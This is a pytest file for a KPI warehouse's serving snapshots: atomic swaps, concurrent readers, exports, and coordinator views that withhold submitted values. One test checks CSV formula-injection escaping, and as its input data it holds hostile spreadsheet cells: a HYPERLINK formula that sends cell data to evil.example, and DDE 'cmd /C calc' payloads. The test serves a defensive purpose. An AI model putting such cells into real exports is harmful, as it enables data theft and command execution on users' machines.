"""The serving snapshot: swapped in whole, readable by another process at any moment."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import duckdb
import polars as pl
import pytest

from kpi.disclosure import DisclosureSettings, releases
from kpi.disclosure.peers import compute_peer_groups
from kpi.ingest import ingest_pending
from kpi.kpis import compute_factory_kpis
from kpi.landing import submit
from kpi.pseudonym import load_or_create_key, pseudonymise
from kpi.register import load_register
from kpi.serving import export, open_snapshot, publish_snapshot

READER = textwrap.dedent(
    """
    import sys, time
    from pathlib import Path
    from kpi.serving import open_snapshot
    path, ready, stop = (Path(a) for a in sys.argv[1:4])
    reads, errors, runs = 0, [], set()
    ready.touch()
    deadline = time.time() + 60
    while not stop.exists() and time.time() < deadline:
        try:
            with open_snapshot(path) as con:
                runs.add(con.execute("SELECT source_run_id FROM snapshot_info").fetchall()[0][0])
                con.execute("SELECT count(*) FROM peer_stats").fetchall()
            reads += 1
        except Exception as exc:  # what the test must never see
            errors.append(repr(exc))
    print(reads, len(errors), len(runs), errors[:3])
    """
)


@pytest.fixture
def warehouse(settings, make_file):
    register = load_register(settings.factory_register)
    for code in ("F01", "F02", "F04", "F05", "F08"):
        for dataset in ("efficiency", "people", "regional"):
            submit(make_file(dataset, code, name=f"{code}-{dataset}"), dataset, code, settings)
    settings.warehouse_path.parent.mkdir(parents=True)
    con = duckdb.connect(str(settings.warehouse_path))
    ingest_pending(con, settings, today=__import__("datetime").date(2026, 1, 15))
    key = load_or_create_key(settings)
    pseudonyms = {f.code: pseudonymise(f.code, key) for f in register.factories}
    rules = DisclosureSettings()
    compute_factory_kpis(con)
    compute_peer_groups(con, register, pseudonyms, rules)
    publication = releases.Publication(rules, {}, len(register.factories))
    for period in releases.due_months(con, __import__("datetime").date(2026, 1, 25), rules):
        releases.close_month(con, period, publication)

    def publish(run_id: str) -> Path:
        return publish_snapshot(
            con,
            settings.serving_path,
            run_id=run_id,
            disclosure=rules,
            register=register,
            pseudonym_of=pseudonyms,
        )

    yield publish
    con.close()


def run_id_of(con) -> str:
    return con.execute("SELECT source_run_id FROM snapshot_info").fetchall()[0][0]


def test_an_open_reader_keeps_the_old_snapshot_until_it_reconnects(warehouse, settings):
    path = warehouse("first")
    with open_snapshot(path) as old:
        warehouse("second")
        assert run_id_of(old) == "first"
        assert old.execute("SELECT count(*) FROM own_kpis").fetchall()[0][0] > 0
        with open_snapshot(path) as new:
            assert run_id_of(new) == "second"
    leftovers = [p.name for p in path.parent.iterdir() if p.name != path.name]
    assert leftovers == []


def test_another_process_reads_without_errors_while_snapshots_are_published(
    warehouse, settings, tmp_path
):
    warehouse("run-0")
    ready, stop = tmp_path / "ready", tmp_path / "stop"
    reader = subprocess.Popen(
        [sys.executable, "-c", READER, str(settings.serving_path), str(ready), str(stop)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        for _ in range(600):
            if ready.exists():
                break
            time.sleep(0.05)
        for number in range(1, 9):
            warehouse(f"run-{number}")
    finally:
        stop.touch()
        out, err = reader.communicate(timeout=90)
    reads, errors, runs, first_errors = out.split(maxsplit=3)
    assert int(errors) == 0, first_errors + err
    assert int(reads) > 0
    assert int(runs) >= 1


def test_a_failed_publication_leaves_the_current_snapshot_alone(warehouse, settings, monkeypatch):
    path = warehouse("good")
    from kpi import serving

    monkeypatch.setitem(serving.__dict__, "serving_tables", lambda: {"broken": [("x", "NOPE")]})
    with pytest.raises(duckdb.Error):
        warehouse("bad")
    with open_snapshot(path) as con:
        assert run_id_of(con) == "good"
    assert [p.name for p in path.parent.iterdir()] == [path.name]


@pytest.mark.parametrize("what", ["peer-stats", "region"])
def test_exports_hold_every_published_row(warehouse, settings, tmp_path, what):
    path = warehouse("x")
    table = {"peer-stats": "peer_stats", "region": "region_indicators"}[what]
    with open_snapshot(path) as con:
        expected = con.execute(f"SELECT count(*) FROM {table}").fetchall()[0][0]
    assert export(path, what, "parquet", tmp_path / "out.parquet") == expected
    assert pl.read_parquet(tmp_path / "out.parquet").height == expected
    assert export(path, what, "csv", tmp_path / "out.csv") == expected
    raw = (tmp_path / "out.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel recognises UTF-8 by its BOM
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("period;")
    frame = pl.read_csv(tmp_path / "out.csv", separator=";", decimal_comma=True)
    assert frame.height == expected


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text():
    from kpi.serving import excel_csv

    frame = pl.DataFrame(
        {
            "file_name": [
                '=HYPERLINK("http://evil.example/?"&A1;"klik")',
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(A1:A9)",
                "\t=1+1",
                "\r=1+1",
                "kwaliteit-2025.xlsx",
                "-3,5",
            ],
            "value": [-1.5, -0.25, 3.0, -7.0, 0.0, 1.0, 2.0, 4.0],
        }
    )
    text = excel_csv(frame).decode("utf-8-sig")
    rows = pl.read_csv(text.encode(), separator=";", decimal_comma=True)
    assert rows["file_name"].to_list() == [
        '\'=HYPERLINK("http://evil.example/?"&A1;"klik")',
        "'+cmd|' /C calc'!A0",
        "'-2+3+cmd|' /C calc'!A0",
        "'@SUM(A1:A9)",
        "'\t=1+1",
        "'\r=1+1",
        "kwaliteit-2025.xlsx",
        "-3,5",  # a plain signed number is no formula
    ]
    # negative numbers in numeric columns stay numbers
    assert rows["value"].to_list() == [-1.5, -0.25, 3.0, -7.0, 0.0, 1.0, 2.0, 4.0]
    assert "\n-1,5" not in text and ";-1,5" in text


def test_the_coordinator_sees_where_and_which_rule_of_each_finding_never_its_value(
    warehouse, settings
):
    message = {"nl": "te laag: -5", "en": "too low: -5"}
    errors = [{"severity": "error", "rule": "range", "row": 3, "column": "energy_kwh",
               "value": "-5", "message": message}]  # fmt: skip
    warnings = [
        {"severity": "warning", "rule": "plausibility", "row": None, "column": None,
         "value": "1.5e9", "message": message},
        {"severity": "warning", "rule": "older \"record\"", "row": 7},  # fields missing
    ]  # fmt: skip
    with duckdb.connect(str(settings.warehouse_path)) as con:
        ((submission,),) = con.execute("SELECT min(submission_id) FROM submissions").fetchall()
        con.execute(
            "UPDATE submissions SET errors = ?, warnings = ? WHERE submission_id = ?",
            [json.dumps(errors), json.dumps(warnings), submission],
        )
    with open_snapshot(warehouse("x")) as snapshot:
        ((reasons,),) = snapshot.execute(
            "SELECT reasons FROM coordinator_submissions WHERE submission_id = ?", [submission]
        ).fetchall()
    assert json.loads(reasons) == [
        {"severity": "error", "rule": "range", "row": 3, "column": "energy_kwh"},
        {"severity": "warning", "rule": "plausibility", "row": None, "column": None},
        {"severity": "warning", "rule": 'older "record"', "row": 7, "column": None},
    ]
    assert "-5" not in reasons and "1.5e9" not in reasons
